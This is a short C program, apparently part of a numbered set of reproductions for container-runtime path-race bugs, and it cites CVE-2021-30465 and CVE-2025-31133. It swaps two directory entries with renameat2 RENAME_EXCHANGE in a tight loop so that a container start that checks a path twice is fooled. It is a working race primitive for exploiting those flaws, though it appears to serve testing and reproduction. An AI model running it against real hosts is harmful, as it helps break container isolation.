/*
 * E03. The racer: swaps two names for each other (renameat2 with RENAME_EXCHANGE)
 * as fast as it can, so that a start that looks at a path twice finds two things.
 * It runs on the host, on the directory image that starts use meanwhile.
 * Reference: CVE-2021-30465, CVE-2025-31133.
 *
 *      e03_exchange MILLISECONDS DIRECTORY FIRST SECOND
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

static long milliseconds(void) {
        struct timespec now;

        (void)clock_gettime(CLOCK_MONOTONIC, &now);
        return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

int main(int argc, char **argv) {
        unsigned long swaps = 0;
        int directory = argc == 5 ? open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC) : -1;
        long end = milliseconds() + (argc == 5 ? atol(argv[1]) : 0);

        if (directory < 0) {
                (void)fputs("usage: e03_exchange MILLISECONDS DIRECTORY FIRST SECOND\n", stderr);
                return 2;
        }
        while (milliseconds() < end)
                for (int i = 0; i < 100; i++)
                        if (renameat2(directory, argv[3], directory, argv[4], RENAME_EXCHANGE) == 0)
                                swaps++;
        (void)printf("swapped %lu times\n", swaps);
        return swaps > 0 ? 0 : 1;
}
